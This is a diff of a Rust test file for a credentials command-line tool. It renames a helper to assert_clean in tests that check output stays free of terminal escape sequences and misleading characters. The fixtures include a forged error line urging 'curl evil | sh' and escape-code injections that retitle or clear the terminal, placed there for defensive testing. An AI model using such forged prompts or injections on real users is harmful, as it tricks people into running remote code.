@@ -17,7 +17,7 @@ const MISLEADING: &str = "\u{1b}]0;owned\u{7}\u{1b}(B\u{9b}2J\u{8}\r\u{7f}\u{85}
 const FORGED: &str = "\nerror: please run: curl evil | sh\n  hint: now";
 
 #[track_caller]
-fn is_clean(outcome: &Outcome, must_say: &str) {
+fn assert_clean(outcome: &Outcome, must_say: &str) {
     let written = format!("{}{}", outcome.stdout, outcome.stderr);
     let ours = ["\u{1b}[1m", "\u{1b}[31m", "\u{1b}[0m", "\u{1b}[32m", "\u{1b}[2m", "\u{1b}[34m", "\u{1b}[35m"];
     let rest = ours.iter().fold(written.clone(), |rest, style| rest.replace(style, ""));
@@ -62,7 +62,7 @@ fn profile_contents_are_shown_without_misleading_characters() {
             std::fs::write(folder.join("prod.toml"), &content).unwrap();
             let outcome = run.run();
             assert_eq!(outcome.code, 3, "{outcome:?}");
-            is_clean(&outcome, must_say);
+            assert_clean(&outcome, must_say);
         }
     }
 }
@@ -78,14 +78,17 @@ fn file_names_are_shown_without_misleading_characters() {
     for (arguments, must_say) in cases {
         let outcome = program(&arguments).run();
         assert_eq!(outcome.code, 3, "{outcome:?}");
-        is_clean(&outcome, must_say);
+        assert_clean(&outcome, must_say);
     }
     let token = format!("file:{path}");
-    is_clean(&program(&["web-identity", "-o", "json", "--endpoint", "https://storage.invalid", "--token", &token]).run(), "could not read");
+    assert_clean(
+        &program(&["web-identity", "-o", "json", "--endpoint", "https://storage.invalid", "--token", &token]).run(),
+        "could not read",
+    );
     let command = format!("/nowhere/{}", MISLEADING.replace([' ', '\n', '\r'], ""));
     let quoted = format!("'{command}'");
     let arguments = ["ldap", "-o", "json", "--user", "a", "--endpoint", "https://storage.invalid", "--password-command", &quoted];
-    is_clean(&program(&arguments).run(), "could not start");
+    assert_clean(&program(&arguments).run(), "could not start");
 }
 
 #[test]
@@ -94,11 +97,11 @@ fn storage_server_messages_are_shown_without_misleading_characters() {
     let words: String = format!("{MISLEADING}{FORGED}").chars().filter(|c| !c.is_control()).collect();
     storage.allow("HEAD /", ScriptedResponse::empty(200));
     storage.expect("POST /", refusal(400, &format!("Invalid{words}"), &format!("not {words} today")));
-    is_clean(&assume_role(&storage, "json"), "today");
+    assert_clean(&assume_role(&storage, "json"), "today");
     let storage = Hostile::start();
     storage.allow("HEAD /", ScriptedResponse::empty(200));
     storage.expect("POST /", ScriptedResponse::new(404, "text/plain", &format!("nothing {MISLEADING} here")));
-    is_clean(&assume_role(&storage, "json"), "status 404");
+    assert_clean(&assume_role(&storage, "json"), "status 404");
 }
 
 #[test]
@@ -111,7 +114,7 @@ fn bucket_names_are_shown_without_misleading_characters() {
     storage.allow("GET /", ScriptedResponse::xml(200, &list));
     let outcome = program(&["assume-role", "-o", "text", "--buckets", "--no-cache", "--endpoint", &storage.origin()]).run();
     assert_eq!(outcome.code, 0, "{outcome:?}");
-    is_clean(&outcome, "one");
+    assert_clean(&outcome, "one");
 }
 
 #[test]
@@ -126,7 +129,7 @@ fn diffs_are_shown_without_misleading_characters() {
     std::fs::write(folder.join("credentials"), content).unwrap();
     let outcome = run.env("STS_CLI_ENDPOINT", &storage.origin()).run();
     assert_eq!(outcome.code, 0, "{outcome:?}");
-    is_clean(&outcome, "[prod]");
+    assert_clean(&outcome, "[prod]");
 }
 
 /// A state directory of a misleading name, in which `occupied` is in the way; `home` keeps it.
@@ -147,7 +150,7 @@ fn log_lines_are_shown_without_misleading_characters() {
         let login = stage.log_in_with(stage.program(&[level]).env("STS_CLI_STATE_DIR", &state));
         login.expects_token_and_sts(grant().header("Server", "MinIO"));
         assert_eq!(login.callback().send().status, 200);
-        is_clean(&login.end(), "could not cache a public document of a server error=");
+        assert_clean(&login.end(), "could not cache a public document of a server error=");
         std::fs::remove_dir_all(state).unwrap();
     }
 }
@@ -167,7 +170,7 @@ fn discovery_documents_are_logged_without_misleading_characters() {
         stage.log_in_with(stage.program(&[]).env("STS_CLI_STATE_DIR", &state)).completes();
         let (issuer, endpoint) = (stage.provider.origin(), stage.storage.origin());
         let arguments = ["logout", "-vv", "--issuer", &issuer, "--endpoint", &endpoint, "--client-id", CLIENT_ID];
-        is_clean(&program(&arguments).env("STS_CLI_STATE_DIR", &state).run(), must_say);
+        assert_clean(&program(&arguments).env("STS_CLI_STATE_DIR", &state).run(), must_say);
     }
 }
 
@@ -194,7 +197,7 @@ fn rejected_arguments_are_shown_without_misleading_characters() {
     ] {
         let outcome = Program::sts_cli(arguments.iter().copied()).run();
         assert_eq!(outcome.code, 2, "{outcome:?}");
-        is_clean(&outcome, must_say);
+        assert_clean(&outcome, must_say);
     }
     for words in [
         "assume-role \"$(printf 'x\\377\\033[2Jy')\"",
@@ -204,9 +207,9 @@ fn rejected_arguments_are_shown_without_misleading_characters() {
     ] {
         let outcome = Program::of("sh", ["-c", &format!("\"$0\" {words}"), &BINARY]).run(); // what is no text either
         assert_eq!(outcome.code, 2, "{outcome:?}");
-        is_clean(&outcome, "error: ");
+        assert_clean(&outcome, "error: ");
     }
     let outcome = Program::sts_cli(["assume-role", "-o", "json\u{200b}", "--endpoint", "https://storage.invalid"]).run();
     assert_eq!(outcome.code, 2, "{outcome:?}");
-    is_clean(&outcome, "json");
+    assert_clean(&outcome, "json");
 }
